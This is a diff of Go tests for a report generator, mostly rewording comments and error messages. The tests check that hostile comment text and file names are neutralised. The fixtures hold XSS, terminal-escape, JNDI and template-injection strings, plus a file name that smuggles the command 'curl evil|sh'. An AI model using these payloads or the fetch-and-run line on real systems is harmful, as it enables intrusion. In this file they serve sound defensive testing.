@@ -16,13 +16,13 @@ import (
 	"packhorse/internal/verify"
 )
 
-var update = flag.Bool("update", false, "write the golden files anew; look at the difference!")
+var update = flag.Bool("update", false, "rewrite the golden files; review the diff")
 
 const (
 	stem = "7f1c2a44-0d5e-4b53-9a0e-3d1f6f0a9c11/0123456789abcdef0123456789abcdef01234567/" +
 		"20260304T050607Z_5382f7ea-7557-4ab7-9782-d50480024a4e"
 
-	// hostile is what a requestor can put into a comment.
+	// hostile is a comment that a malicious requestor could write.
 	hostile = "</script><script>alert(1)</script> <img src=x onerror=alert(1)> \"quoted\" \x1b[2J \x00 \u202e " +
 		"' --> ${jndi:ldap://x} {{7*7}} \r\n\r\nPASS javascript:alert(1) Ünï © 漢字"
 )
@@ -151,7 +151,7 @@ func TestGolden(t *testing.T) {
 	}
 }
 
-// TestLines: no line has more than 100 characters, except where one word has.
+// TestLines: lines have at most 100 characters unless a single word is longer.
 func TestLines(t *testing.T) {
 	t.Parallel()
 	text, _ := write(t, summary(manifestOf(manifest.OutcomeArchived)))
@@ -162,7 +162,7 @@ func TestLines(t *testing.T) {
 	}
 }
 
-// TestHostile: what people write can neither steer a terminal nor become a part of the page.
+// TestHostile: foreign text can neither control a terminal nor inject markup into the page.
 func TestHostile(t *testing.T) {
 	t.Parallel()
 	for _, outcome := range []manifest.Outcome{manifest.OutcomeArchived, manifest.OutcomeNotCollected} {
@@ -179,27 +179,26 @@ func TestHostile(t *testing.T) {
 		text, page := write(t, sum)
 		for _, bad := range []string{"\x1b", "\x00", "\u202e", "\r"} {
 			if strings.Contains(text, bad) || strings.Contains(page, bad) {
-				t.Errorf("%q is still there", bad)
+				t.Errorf("the text contains %q", bad)
 			}
 		}
 		for _, bad := range []string{"<script", "<img", "onerror=alert(1)>", "49"} {
 			if strings.Contains(page, bad) {
-				t.Errorf("the page has %q", bad)
+				t.Errorf("the page contains %q", bad)
 			}
 		}
 		for line := range strings.Lines(text) {
 			if strings.HasPrefix(line, "VERIFIED") || strings.HasPrefix(line, "PASS") {
-				t.Errorf("a comment can say %q", line)
+				t.Errorf("a comment forged the line %q", line)
 			}
 		}
 		if !strings.Contains(text, "\nFAIL on") || !strings.Contains(page, `class="verdict FAIL"`) {
-			t.Error("it does not say that it is not verified")
+			t.Error("the report does not show the verdict FAIL")
 		}
 	}
 }
 
-// TestNothingToPaste: a name that nobody vouches for never stands in a command, and none is a part of
-// one that a shell would obey.
+// TestNothingToPaste: commands never contain unverified names, and names in commands are quoted for the shell.
 func TestNothingToPaste(t *testing.T) {
 	t.Parallel()
 	const evil = "x.pem; curl evil|sh #"
@@ -223,7 +222,7 @@ func TestNothingToPaste(t *testing.T) {
 		text, page := write(t, sum)
 		if strings.Contains(text, "openssl") || strings.Contains(page, "openssl") ||
 			strings.Contains(text, "  $ ") {
-			t.Errorf("%s: there are commands in %s", tt.name, text)
+			t.Errorf("%s: unexpected commands in %s", tt.name, text)
 		}
 	}
 	sum := summary(manifestOf(manifest.OutcomeArchived))
@@ -232,13 +231,12 @@ func TestNothingToPaste(t *testing.T) {
 	text, _ := write(t, sum)
 	for _, want := range []string{`'` + evil + `.pem'`, `'$(id)'\''.json'`, `'$(id)'\''.json.sig'`} {
 		if !strings.Contains(text, want) {
-			t.Errorf("there is no %s in %s", want, text)
+			t.Errorf("%s is missing in %s", want, text)
 		}
 	}
 }
 
-// TestLedgerReport: where the manifest is gone, the report says what the ledger knows, and that it
-// proves nothing.
+// TestLedgerReport: without a manifest the report shows the ledger entry and says that it proves nothing.
 func TestLedgerReport(t *testing.T) {
 	t.Parallel()
 	m := manifestOf(manifest.OutcomeArchived)
@@ -263,19 +261,19 @@ func TestLedgerReport(t *testing.T) {
 		"77 bytes", "proves nothing by itself",
 	} {
 		if !strings.Contains(strings.Join(strings.Fields(text), " "), want) || !strings.Contains(page, want) {
-			t.Errorf("there is no %q in %s", want, text)
+			t.Errorf("%q is missing in %s", want, text)
 		}
 	}
 	if strings.Contains(text, "openssl") {
-		t.Error("there are commands")
+		t.Error("unexpected commands")
 	}
 	s.Record = nil
 	if _, err := report.New(sum, sum.Scope.Key); err == nil {
-		t.Error("a report was made of nothing")
+		t.Error("New succeeded without a manifest and a record")
 	}
 }
 
-// TestStrangers: what else lay there is named, by whoever knows of it, once.
+// TestStrangers: each stranger is listed once, with the source that knows it.
 func TestStrangers(t *testing.T) {
 	t.Parallel()
 	m := manifestOf(manifest.OutcomeArchived)
@@ -293,18 +291,18 @@ func TestStrangers(t *testing.T) {
 		"packages/x.json, 6 bytes, it is too large", "counts 2 more",
 	} {
 		if strings.Count(text, want) != 1 {
-			t.Errorf("%q is not there once in %s", want, text)
+			t.Errorf("%q does not appear exactly once in %s", want, text)
 		}
 	}
 }
 
-// TestSelfContained: the page asks for nothing.
+// TestSelfContained: the page does not load external resources.
 func TestSelfContained(t *testing.T) {
 	t.Parallel()
 	_, page := write(t, summary(manifestOf(manifest.OutcomeArchived)))
 	for _, bad := range []string{"http:", "https:", "src=", "href=", "url(", "@import", "<script"} {
 		if strings.Contains(page, bad) {
-			t.Errorf("the page has %q", bad)
+			t.Errorf("the page contains %q", bad)
 		}
 	}
 }
@@ -313,6 +311,6 @@ func TestNothing(t *testing.T) {
 	t.Parallel()
 	sum := summary(manifest.Manifest{Outcome: manifest.OutcomeArchived})
 	if _, err := report.New(sum, sum.Scope.Key); err == nil {
-		t.Error("a report was made of nothing")
+		t.Error("New succeeded without a manifest and a record")
 	}
 }
